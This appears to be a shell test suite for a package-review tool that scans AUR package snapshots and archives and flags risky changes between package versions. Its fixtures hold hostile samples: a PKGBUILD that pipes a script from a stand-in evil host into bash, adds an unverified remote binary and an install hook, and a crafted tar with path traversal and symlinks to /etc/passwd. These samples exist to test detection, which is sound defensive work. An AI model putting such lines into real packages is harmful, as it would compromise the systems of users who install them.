# test_aur.sh - issue 20: archive snapshots as scan targets, prc diff, prc aur fetch / scan --aur.
# Archives are made here with tar (and python3's tarfile for members tar cannot make unprivileged).

# A package directory NAME under $TMP with a PKGBUILD and .SRCINFO.
mkpkg() {
        mkdir -p "$TMP/$1"
        cat >"$TMP/$1/PKGBUILD" <<'EOF'
pkgname=demo
pkgver=1.0
pkgrel=1
arch=(any)
url="https://example.org/demo"
source=("https://example.org/demo-$pkgver.tar.gz")
sha256sums=('0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef')
package() {
  install -Dm644 demo "$pkgdir/usr/share/demo"
}
EOF
        printf 'pkgbase = demo\n\tpkgver = 1.0\n\tpkgrel = 1\n\turl = https://example.org/demo\n\tarch = any\n\tsource = https://example.org/demo-1.0.tar.gz\n\tsha256sums = 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n\npkgname = demo\n' >"$TMP/$1/.SRCINFO"
}

t_archive_target_has_the_directory_inventory_and_records_the_archive() {
        mkpkg demo
        tar -C "$TMP" -czf "$TMP/demo.tar.gz" demo
        run "$PRC" scan --target "$TMP/demo" --format json
        local dir_digest
        dir_digest=$(json_get target.inventory_digest)
        run "$PRC" scan --target "$TMP/demo.tar.gz" --format json
        expect_rc 1
        expect_eq "$(json_get target.inventory_digest)" "$dir_digest"
        expect_eq "$(json_get target.archive.sha256)" "$(sha256sum "$TMP/demo.tar.gz" | cut -d' ' -f1)"
        expect_eq "$(json_get target.archive.format)" "tar.gz"
        expect_eq "$(json_get target.archive.root)" "demo"
        expect_eq "$(json_get target.archive.rejected)" "[]"
        expect_eq "$(json_get target.files)" "2"
        # The members were read through the worker: both manifests parsed, no gap.
        expect_eq "$(json_get assertions.3.id)" "PRC-A-CORE-004"
        expect_eq "$(json_get assertions.3.state)" "Pass"
        expect_eq "$(json_get coverage_gaps)" "[]"
        # No host path in the result.
        grep -qF -- "$TMP" <<<"$OUT" && fail "the result holds the host path"
        return 0
}

t_tar_tgz_and_tar_zst_give_the_same_inventory() {
        mkpkg demo
        tar -C "$TMP" -cf "$TMP/demo.tar" demo
        tar -C "$TMP" -czf "$TMP/demo.tgz" demo
        tar -C "$TMP" --zstd -cf "$TMP/demo.tar.zst" demo
        local want="" f d
        for f in demo.tar demo.tgz demo.tar.zst; do
                run "$PRC" scan --target "$TMP/$f" --format json
                expect_rc 1
                d=$(json_get target.inventory_digest)
                [ -z "$want" ] && want=$d
                expect_eq "$d" "$want"
        done
        run "$PRC" scan --target "$TMP/demo.tar.zst" --format json
        expect_eq "$(json_get target.archive.format)" "tar.zst"
}

t_archive_without_a_single_top_directory_is_scanned_from_its_root() {
        mkpkg demo
        tar -C "$TMP/demo" -czf "$TMP/flat.tar.gz" PKGBUILD .SRCINFO
        run "$PRC" scan --target "$TMP/flat.tar.gz" --format json
        expect_rc 1
        expect_eq "$(json_get target.files)" "2"
        python3 -c 'import json,sys; d=json.load(sys.stdin); sys.exit("root" in d["target"]["archive"])' <<<"$OUT" ||
                fail "a flat archive has no package root"
}

t_rejected_members_are_named_and_make_whole_tree_assertions_unknown() {
        python3 - "$TMP/evil.tar" <<'EOF'
import io, sys, tarfile
t = tarfile.open(sys.argv[1], "w")
def add(name, data=b"", kind=tarfile.REGTYPE, link=""):
    ti = tarfile.TarInfo(name); ti.type = kind; ti.linkname = link; ti.mode = 0o644
    ti.size = len(data) if kind == tarfile.REGTYPE else 0
    t.addfile(ti, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
add("pkg/", kind=tarfile.DIRTYPE)
add("pkg/PKGBUILD", b"pkgname=x\npkgver=1\npkgrel=1\narch=(any)\n")
add("pkg/../../etc/evil", b"x")
add("pkg/passwd", kind=tarfile.SYMTYPE, link="/etc/passwd")
add("pkg/up", kind=tarfile.SYMTYPE, link="../../x")
add("pkg/dev", kind=tarfile.CHRTYPE)
t.close()
EOF
        run "$PRC" scan --target "$TMP/evil.tar" --format json
        expect_rc 1
        expect_out '"class":"path-dotdot"'
        expect_out '"path":"pkg/../../etc/evil"'
        expect_out '"class":"archive-link-escape"'
        expect_out '"class":"archive-special"'
        expect_eq "$(json_get target.unrepresentable)" "4"
        local i
        for i in 3 4 5; do
                expect_eq "$(json_get assertions.$i.state)" "Unknown"
        done
        run "$PRC" scan --target "$TMP/evil.tar"
        expect_out "4 rejected"
        expect_out "pkg/dev: archive-special"
}

t_archive_target_works_for_every_profile() {
        mkpkg demo
        tar -C "$TMP" -czf "$TMP/demo.tar.gz" demo
        local p
        for p in $(awk '/^profiles:/{on=1} on && /- id: /{print $3}' catalog/catalog.yaml); do
                run "$PRC" scan --target "$TMP/demo.tar.gz" --profile "$p" --format json
                [ "$RC" -le 1 ] || fail "profile $p: exit $RC ($ERR)"
                expect_eq "$(json_get profile)" "$p"
                expect_eq "$(json_get target.archive.root)" "demo"
        done
}

t_a_file_that_is_not_an_archive_is_a_named_refusal() {
        head -c 2048 /dev/zero | tr '\0' 'a' >"$TMP/README"
        run "$PRC" scan --target "$TMP/README"
        expect_rc 3
        expect_err "archive-format"
        expect_err "$TMP/README"
        printf 'hello\n' >"$TMP/short"
        run "$PRC" scan --target "$TMP/short"
        expect_rc 3
        expect_err "archive-truncated"
        head -c 11000000 /dev/zero >"$TMP/big.tar"
        run "$PRC" scan --target "$TMP/big.tar"
        expect_rc 3
        expect_err "input-too-large"
}

t_every_real_aur_package_scans_as_a_snapshot_archive() {
        local corp=${PRC_CORPORA:-$PRC_ROOT/../shared/corpora}/aur
        if [ ! -d "$corp" ]; then
                echo "    ../shared/corpora/aur is absent: the corpus sweep did not run" >&2
                [ "${CI:-}" = "true" ] && return 1
                return 0
        fi
        local d n=0 bad=0 work="$TMP/pkgs"
        mkdir -p "$work"
        while IFS= read -r d; do
                local name
                name=$(basename "$d")
                # A snapshot shaped like the AUR's: NAME/ holding the package files (copied: the corpus is read-only).
                rm -rf "${work:?}/$name" && cp -r "$d" "$work/$name" && chmod -R u+w "$work/$name"
                tar -C "$work" -czf "$work/$name.tar.gz" "$name"
                OUT=$("$PRC" scan --target "$work/$name.tar.gz" --format json 2>"$TMP/err") && RC=0 || RC=$?
                if [ "$RC" -gt 1 ] || ! grep -q '"archive":{' <<<"$OUT"; then
                        echo "    $name: exit $RC $(head -c 300 "$TMP/err")" >&2
                        bad=$((bad + 1))
                fi
                n=$((n + 1))
                rm -rf "${work:?}/$name" "$work/$name.tar.gz"
        done < <(cut -f3 "$corp/INDEX.tsv" | tail -n +2 | sed "s|^|$corp/|")
        echo "    scanned $n AUR snapshot archives, $bad failed" >&2
        [ "$n" -ge 400 ] || fail "only $n packages"
        [ "$bad" -eq 0 ]
}

# ---- prc diff ----

t_diff_of_identical_versions_is_clean() {
        mkpkg a
        run "$PRC" diff "$TMP/a" "$TMP/a"
        expect_rc 0
        expect_out "0 changes, 0 risky"
}

t_diff_flags_every_risky_change_kind() {
        mkpkg old
        mkpkg new
        cat >"$TMP/new/PKGBUILD" <<'EOF'
pkgname=demo
pkgver=1.1
pkgrel=1
arch=(any)
url="https://github.com/someone-else/demo"
source=("https://example.org/demo-$pkgver.tar.gz" "https://dl.evil.example/helper.bin")
sha256sums=('SKIP' 'SKIP')
install=demo.install
prepare() {
  curl -fsSL https://evil.example/p.sh | bash
  'n''p''m' install left-pad
}
package() {
  install -Dm644 demo "$pkgdir/usr/share/demo"
}
EOF
        printf 'post_install() {\n  systemctl enable --now demo-agent\n}\n' >"$TMP/new/demo.install"
        rm "$TMP/new/.SRCINFO"
        run "$PRC" diff "$TMP/old" "$TMP/new"
        expect_rc 1
        local k
        for k in url-changed source-host-added checksum-skip network-added exec-added package-manager-added \
                 install-script-added install-hook-added version-changed; do
                expect_out "$k"
        done
        expect_out "PKGBUILD:10"
        run "$PRC" diff "$TMP/old" "$TMP/new" --format json
        expect_rc 1
        expect_eq "$(json_get schema)" "prc.diff/v1"
        python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["risky"] >= 8, d["risky"]' <<<"$OUT"
}

t_diff_removed_checksums_and_snapshot_archives() {
        mkpkg old
        mkpkg new
        sed -i '/^sha256sums=/d' "$TMP/new/PKGBUILD"
        sed -i '/sha256sums/d' "$TMP/new/.SRCINFO"
        tar -C "$TMP" -czf "$TMP/old.tar.gz" old
        tar -C "$TMP" --zstd -cf "$TMP/new.tar.zst" new
        run "$PRC" diff "$TMP/old.tar.gz" "$TMP/new.tar.zst" --format json
        expect_rc 1
        expect_out '"kind":"checksum-removed"'
        expect_eq "$(json_get old.archive.root)" "old"
        expect_eq "$(json_get new.archive.format)" "tar.zst"
}

t_diff_unparseable_new_version_is_risky_never_clean() {
        mkpkg old
        mkdir -p "$TMP/new"
        printf 'pkgname=x\nfoo() {\n' >"$TMP/new/PKGBUILD"
        run "$PRC" diff "$TMP/old" "$TMP/new"
        expect_rc 1
        expect_out "unanalyzed"
        rm "$TMP/new/PKGBUILD"
        run "$PRC" diff "$TMP/old" "$TMP/new"
        expect_rc 1
        expect_out "no PKGBUILD"
}

t_diff_usage_and_unreadable_versions() {
        run "$PRC" diff "$TMP"
        expect_rc 2
        head -c 2048 /dev/zero | tr '\0' 'a' >"$TMP/x.tar.gz"
        mkpkg a
        run "$PRC" diff "$TMP/a" "$TMP/x.tar.gz"
        expect_rc 3
        expect_err "archive-format"
}
